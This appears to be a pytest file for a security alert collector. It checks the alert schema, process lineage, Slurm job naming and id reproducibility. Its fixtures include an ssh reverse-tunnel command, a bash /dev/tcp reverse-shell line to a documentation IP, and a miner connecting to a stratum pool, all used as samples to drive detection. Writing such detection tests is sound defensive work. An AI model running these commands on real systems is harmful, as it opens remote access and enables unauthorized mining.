# SPDX-License-Identifier: Apache-2.0
"""Alerts as DESIGN.md's contract has them: fields, lineage, job, ids (built by the pipeline from events)."""

from __future__ import annotations

import dataclasses
import re

from collector.alerts.clock import Clock
from collector.pipeline import Pipeline
from tests.collector.detect.protocols.test_stratum import XMRIG_LOGIN
from tests.collector.test_pipeline import CID, CLOCK, CONTAINER_TREE, ListSink, _run
from tests.factories import cgroup_event, exec_event, payload_event, proc_event, stdio_event


def test_alert_schema() -> None:
    """An alert has exactly the contract's keys, types and values."""
    _, sink = _run(CONTAINER_TREE)
    (alert,) = sink.alerts
    assert list(alert) == [
        "kind",
        "id",
        "time",
        "host",
        "rule",
        "category",
        "severity",
        "summary",
        "process",
        "ancestors",
        "k8s",
        "job",
        "network",
        "gpu",
        "evidence",
        "action",
        "tags",
    ]
    assert alert["kind"] == "alert" and alert["host"] == "gpu-node-7"
    assert alert["time"] == "2023-11-14T22:13:25.000000123Z"
    assert re.fullmatch(r"[0-9a-f-]{36}", alert["id"])
    assert (alert["rule"], alert["category"], alert["severity"]) == ("mining.stratum", "mining", "critical")
    assert alert["process"] == {
        "pid": 80,
        "ppid": 70,
        "uid": 1000,
        "comm": "x",
        "exe": "/tmp/x",
        "args": ["./x", "-o", "pool.example:3333"],
        "cgroup": CONTAINER_TREE[1].path,  # type: ignore[attr-defined]
        "container_id": CID,
    }
    assert set(alert["network"]) == {"proto", "saddr", "sport", "daddr", "dport", "sni", "dns_name"}
    assert alert["network"]["dport"] == 3333 and alert["action"] == {"taken": "none"}
    assert alert["evidence"]["signature"] == "cryptonote:login" and "XMRig" in alert["evidence"]["agent"]


def test_lineage_is_taken_at_exec_and_stops_at_the_container_init() -> None:
    """The reparented miner (ppid 1 now) still names the shell that launched it; lineage ends inside the container."""
    _, sink = _run(CONTAINER_TREE)
    assert [a["pid"] for a in sink.alerts[0]["ancestors"]] == [70, 60]
    assert sink.alerts[0]["ancestors"][0]["args"] == ["sh", "-c", "./x &"]


def test_host_lineage_runs_to_init_and_slurm_job_is_named() -> None:
    """Outside containers lineage reaches pid 1; a Slurm cgroup names the job."""
    events = [
        cgroup_event(3, "/system.slice/slurmstepd.scope/job_1392969/step_0/user/task_0"),
        proc_event(1, 0, ("/sbin/init",), cgroup_id=1),
        proc_event(10, 1, ("slurmstepd",), cgroup_id=1),
        exec_event(
            ["ssh", "-fNR", "2222:localhost:22", "a@203.0.113.9"], exe="/usr/bin/ssh", pid=11, ppid=10, cgroup_id=3
        ),
    ]
    _, sink = _run(events)
    (alert,) = sink.alerts
    assert alert["rule"] == "tunnel.ssh_reverse" and alert["network"] is None
    assert [a["pid"] for a in alert["ancestors"]] == [10, 1]
    assert alert["job"] == {"scheduler": "slurm", "id": "1392969"}
    assert alert["process"]["container_id"] is None


def test_unknown_process_still_alerts() -> None:
    """A payload from a process the table never saw alerts with what the event carries."""
    _, sink = _run([payload_event(XMRIG_LOGIN, pid=999, comm="kworker")])
    (alert,) = sink.alerts
    assert alert["process"]["pid"] == 999 and alert["process"]["exe"] is None and alert["ancestors"] == []


def test_alert_ids_are_reproducible() -> None:
    """The same events give the same alert ids (a replay does not duplicate alerts in a SIEM)."""
    assert _run(CONTAINER_TREE)[1].alerts == _run(CONTAINER_TREE)[1].alerts


def test_alert_ids_differ_by_boot_time_process_and_rule() -> None:
    """Alerts that differ in boot, kernel time, process or rule get distinct ids."""
    login = CONTAINER_TREE[-1]
    ssh = ["ssh", "-R", "1:l:1", "h"]
    events = [
        login,
        dataclasses.replace(login, ktime_ns=login.ktime_ns + 1),
        dataclasses.replace(login, pid=81, tgid=81),
        exec_event(ssh, exe="/usr/bin/ssh", pid=80, ktime_ns=login.ktime_ns),  # same pid and time, other rule
    ]
    ids = [a["id"] for a in _run(events)[1].alerts]
    sink = ListSink()
    other_boot = Pipeline("gpu-node-7", Clock("boot-2", CLOCK.realtime_offset_ns), [sink])
    other_boot.handle(login)
    ids.append(sink.alerts[0]["id"])
    assert len(ids) == 5 and len(set(ids)) == 5


def test_a_finding_may_carry_its_own_severity() -> None:
    """A rule spanning several severities sets the finding's; without one the alert takes the rule's."""
    from collector.alerts.alert import build
    from collector.detect import Finding, Severity
    from collector.detect.tunnel.ssh_reverse import RULE
    from collector.enrich.process import ProcessTable

    event = exec_event(["ssh", "-R", "1:l:1", "h"], exe="/usr/bin/ssh")
    alert = build(Finding(RULE, event, "s", severity=Severity.LOW), "n", CLOCK, ProcessTable(), {})
    assert (alert["severity"], build(Finding(RULE, event, "s"), "n", CLOCK, ProcessTable(), {})["severity"]) == (
        "low",
        RULE.severity.value,
    )


def test_a_process_never_seen_names_its_parent_line() -> None:
    """A fork that came and went (no exec, gone before /proc was read) still gets its parent's lineage."""
    events = [
        proc_event(1, 0, ("/sbin/init",), cgroup_id=1),
        proc_event(10, 1, ("bash", "-c", "exec 5<>/dev/tcp/203.0.113.9/4444; ..."), cgroup_id=1),
        stdio_event("012", pid=11, ppid=10, cgroup_id=1, comm="bash"),
    ]
    table_events = [*events[:2], exec_event(["bash"], exe="/usr/bin/bash", pid=11, ppid=10, cgroup_id=1)]
    _, seen = _run([*table_events, events[2]])  # known: the usual lineage
    _, unseen = _run(events)  # never seen: its record's parent
    assert [a["pid"] for a in unseen.alerts[0]["ancestors"]] == [10, 1]
    assert [a["pid"] for a in seen.alerts[0]["ancestors"]] == [10, 1]
